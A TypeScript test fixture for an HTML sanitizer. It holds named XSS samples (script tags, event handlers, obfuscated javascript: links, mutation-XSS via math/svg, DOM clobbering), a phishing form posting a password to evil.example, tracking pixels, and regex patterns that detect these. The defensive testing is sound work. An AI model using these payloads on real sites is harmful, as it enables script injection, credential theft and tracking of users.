/**
 * Samples of hostile HTML, each with a name. Each sample contains the text `Read me`, which the app must still show.
 * The code in a sample would set the global variable `hacked`.
 */
export const hostileHtml: readonly (readonly [name: string, html: string])[] = [
  ['a script', '<script>globalThis.hacked = true</script><p>Read me</p>'],
  ['a picture that fails', '<p>Read me</p><img src="x" onerror="globalThis.hacked = true">'],
  [
    'an address of code',
    '<a href="javascript:globalThis.hacked=true">Read me</a><a href="jAvA&#09;script:globalThis.hacked=true">x</a><a ' +
      'href="data:text/html,<script>1</script>">y</a>',
  ],
  [
    'a style that breaks out',
    '<style>body { display: none }</style><p style="position: fixed; inset: 0; z-index: 9999">Read me</p>',
  ],
  ['a style that never ends', '<p>Read me</p><style>* { display: none'],
  [
    'a form that asks for the password',
    '<form action="https://evil.example"><input name="password"><button>Log in</button></form><p>Read me</p>',
  ],
  [
    'a page in a page',
    '<iframe srcdoc="<script>parent.hacked = true</script>"></iframe><object data="https://evil.example"></object>' +
      '<embed src="https://evil.example"><p>Read me</p>',
  ],
  [
    'another base and a refresh',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><p>Read me</p>',
  ],
  [
    'a picture that counts readers',
    '<p>Read me</p><img src="https://evil.example/p.gif"><img srcset="https://evil.example/p.gif 1x"><picture><source ' +
      'srcset="//evil.example/p.gif"></picture>',
  ],
  ['a huge picture', '<img src="/a.webp" width="99999" height="99999" style="width: 99999px"><p>Read me</p>'],
  ['tags that are never closed', '<div><b><table><tr><td><p>Read me'],
  ['tags that close what is not theirs', '</div></article></main></body><p>Read me</p>'],
  [
    "names that cover the page's own",
    '<p id="content" name="location" class="root">Read me</p><a id="brand">x</a><img name="getElementById">',
  ],
  [
    'a namespace that changes',
    '<math><mtext><table><mglyph><style><!--</style><img src="x" onerror="globalThis.hacked = true">--></style>' +
      '</mglyph></table></mtext></math><svg><style><a id="</style><img src=1 onerror=globalThis.hacked=true>"></a>' +
      '</style></svg><p>Read me</p>',
  ],
  [
    'handlers of every kind',
    '<p onclick="globalThis.hacked=true" onpointerenter="globalThis.hacked=true" ' +
      'onanimationstart="globalThis.hacked=true" autofocus tabindex="1" onfocus="globalThis.hacked=true">Read me</p>' +
      '<details open ontoggle="globalThis.hacked=true"></details>',
  ],
];

/** Patterns of HTML that the app must never render. */
const activeContentPatterns = [
  /<(script|style|svg|math|iframe|object|embed|form|input|button|base|meta|link)\b/i,
  /\son\w+=|\sstyle=|\s(id|class|name|tabindex|autofocus)=/i,
  /javascript:|data:text|evil\.example|srcset=/i,
];

/**
 * Returns the first forbidden part of an element's HTML, such as a script or an external address. Returns undefined if
 * the HTML is safe.
 */
export const findActiveContent = (element: Element): string | undefined =>
  activeContentPatterns.map((pattern) => pattern.exec(element.innerHTML)?.[0]).find(Boolean);
